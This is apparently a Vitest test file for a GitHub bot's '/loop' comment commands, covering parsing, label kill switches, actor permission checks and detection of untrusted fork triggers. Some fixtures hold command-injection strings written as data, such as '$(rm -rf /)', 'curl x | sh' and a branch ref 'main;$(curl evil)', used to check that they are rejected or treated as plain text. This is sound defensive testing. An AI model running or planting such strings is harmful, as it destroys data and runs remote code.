import { describe, expect, it } from 'vitest'
import {
  authorizeActor,
  gatesApprovedByLabels,
  hasStopLabel,
  isUntrustedTrigger,
  parseCommentCommand,
  parseLabel,
} from '../../../src/domain/commands.js'

describe('parseCommentCommand', () => {
  const commands = [
    { body: '/loop resume', command: { kind: 'resume' } },
    { body: 'Looks good.\n\n/loop approve security\n', command: { kind: 'approve', gate: 'security' } },
    { body: '  /loop APPROVE Deploy', command: { kind: 'approve', gate: 'deploy' } },
    { body: '/loop abort', command: { kind: 'abort' } },
    { body: '/loop abort "wrong approach"', command: { kind: 'abort', reason: 'wrong approach' } },
    {
      body: '/loop skip docs --reason "covered by the \\"api\\" task"',
      command: { kind: 'skip', task: 'docs', reason: 'covered by the "api" task' },
    },
    {
      body: "/loop skip e2e:smoke --reason 'no browser here'",
      command: { kind: 'skip', task: 'e2e:smoke', reason: 'no browser here' },
    },
    {
      body: '/loop skip docs --reason=unquoted words',
      command: { kind: 'skip', task: 'docs', reason: 'unquoted words' },
    },
    {
      body: '/loop skip docs --reason "$(rm -rf /); `id` && curl x | sh"',
      command: { kind: 'skip', task: 'docs', reason: '$(rm -rf /); `id` && curl x | sh' },
    },
    { body: '/loop approve security\n/loop abort', command: { kind: 'approve', gate: 'security' } },
    { body: '/loop start', command: { kind: 'start' } },
    {
      body: 'Please pick this up.\n/loop start only the parser;\nkeep the API $(as is)\n',
      command: { kind: 'start', instructions: 'only the parser;\nkeep the API $(as is)' },
    },
  ]
  it.each(commands)('reads $body', ({ body, command }) => {
    expect(parseCommentCommand(body)).toEqual({ command })
  })

  const none = [
    'no command here',
    'please /loop resume later',
    '> /loop approve security\nquoted from above',
    '```\n/loop approve security\n```',
    '~~~sh\n/loop abort\n~~~',
    '/looping resume',
    '',
  ]
  it.each(none)('finds no command in %j', (body) => {
    expect(parseCommentCommand(body)).toBeNull()
  })

  const problems = [
    { body: '/loop', problem: 'Unknown `/loop` command' },
    { body: '/loop merge', problem: "Unknown `/loop` command 'merge'" },
    { body: '/loop approve', problem: 'needs a gate name' },
    { body: '/loop approve security; rm -rf /', problem: 'takes one gate name' },
    { body: '/loop approve $(whoami)', problem: 'takes one gate name' },
    { body: '/loop approve `id`', problem: 'takes one gate name' },
    { body: '/loop skip', problem: 'needs a task name' },
    { body: '/loop skip ;ls --reason "x"', problem: 'needs a task name' },
    { body: '/loop skip docs', problem: 'needs `--reason "why"`' },
    { body: '/loop skip docs --reason "unclosed', problem: 'no closing "' },
    { body: '/loop skip docs --reason ""', problem: 'must not be empty' },
    { body: `/loop skip docs --reason "${'x'.repeat(600)}"`, problem: 'at most 500' },
  ]
  it.each(problems)('explains what is wrong with $body', ({ body, problem }) => {
    const parsed = parseCommentCommand(body)
    expect(parsed).not.toBeNull()
    expect(parsed && 'problem' in parsed ? parsed.problem : '').toContain(problem)
  })
})

describe('labels', () => {
  it.each([
    { label: 'loop/approved:security', command: { kind: 'approve', gate: 'security' } },
    { label: 'loop/approved:Deploy', command: { kind: 'approve', gate: 'deploy' } },
    { label: 'loop/stop', command: { kind: 'abort', reason: 'label loop/stop' } },
    { label: 'loop/approved:$(id)', command: null },
    { label: 'loop/approved:', command: null },
    { label: 'bug', command: null },
  ])('reads $label', ({ label, command }) => {
    expect(parseLabel(label)).toEqual(command)
  })

  it('finds the kill switch and approved gates', () => {
    const labels = ['bug', 'loop/approved:security', 'loop/stop', 'loop/approved:deploy']
    expect(hasStopLabel(labels)).toBe(true)
    expect(hasStopLabel(['loop'])).toBe(false)
    expect(gatesApprovedByLabels(labels)).toEqual(['security', 'deploy'])
  })
})

describe('authorizeActor', () => {
  const controllerLogin = 'github-actions[bot]'
  it.each([
    { permission: 'admin', actorType: 'User', actor: 'alice', allowed: true, reason: 'admin permission' },
    { permission: 'maintain', actorType: 'User', actor: 'alice', allowed: true, reason: 'maintain' },
    { permission: 'write', actorType: 'User', actor: 'alice', allowed: true, reason: 'write' },
    { permission: 'triage', actorType: 'User', actor: 'bob', allowed: false, reason: 'has triage permission' },
    { permission: 'read', actorType: 'User', actor: 'bob', allowed: false, reason: 'write, maintain or admin' },
    { permission: 'none', actorType: 'User', actor: 'eve', allowed: false, reason: 'has none permission' },
    { permission: 'admin', actorType: 'Bot', actor: 'dependabot[bot]', allowed: false, reason: 'is a bot' },
    { permission: 'write', actorType: 'User', actor: 'renovate[bot]', allowed: false, reason: 'is a bot' },
    {
      permission: 'write',
      actorType: 'Bot',
      actor: 'github-actions[bot]',
      allowed: false,
      reason: 'controller itself',
    },
    { permission: 'admin', actorType: 'User', actor: 'Loop-PAT-User', allowed: false, reason: 'controller itself' },
  ])('$actor with $permission: allowed=$allowed', ({ permission, actorType, actor, allowed, reason }) => {
    const login = actor === 'Loop-PAT-User' ? 'loop-pat-user' : controllerLogin
    const result = authorizeActor({ permission, actorType, actor, controllerLogin: login })
    expect(result.allowed).toBe(allowed)
    expect(result.reason).toContain(reason)
  })
})

describe('isUntrustedTrigger', () => {
  const repository = { full_name: 'owner/repo' }
  const fork = { full_name: 'stranger/repo' }
  it.each([
    { event: 'push', payload: { repository }, allow: false, untrusted: false, refuse: false },
    {
      event: 'pull_request_target',
      payload: { repository, pull_request: { head: { repo: { full_name: 'Owner/Repo' } } } },
      allow: false,
      untrusted: false,
      refuse: false,
    },
    {
      event: 'pull_request_target',
      payload: { repository, pull_request: { head: { repo: fork, ref: 'main;$(curl evil)' } } },
      allow: false,
      untrusted: true,
      refuse: true,
    },
    {
      event: 'pull_request_target',
      payload: { repository, pull_request: { head: { repo: null } } },
      allow: false,
      untrusted: true,
      refuse: true,
    },
    {
      event: 'pull_request_target',
      payload: { repository, pull_request: { head: { repo: fork } } },
      allow: true,
      untrusted: true,
      refuse: false,
    },
    {
      event: 'workflow_run',
      payload: { repository, workflow_run: { head_repository: fork } },
      allow: false,
      untrusted: true,
      refuse: true,
    },
    {
      event: 'workflow_run',
      payload: { repository, workflow_run: { head_repository: repository } },
      allow: false,
      untrusted: false,
      refuse: false,
    },
  ])('$event (allow=$allow): untrusted=$untrusted refuse=$refuse', ({ event, payload, allow, untrusted, refuse }) => {
    const result = isUntrustedTrigger(event, payload, allow)
    expect(result).toMatchObject({ untrusted, refuse })
    if (refuse) expect(result.reason).toContain("Set 'allow-untrusted: true'")
  })
})
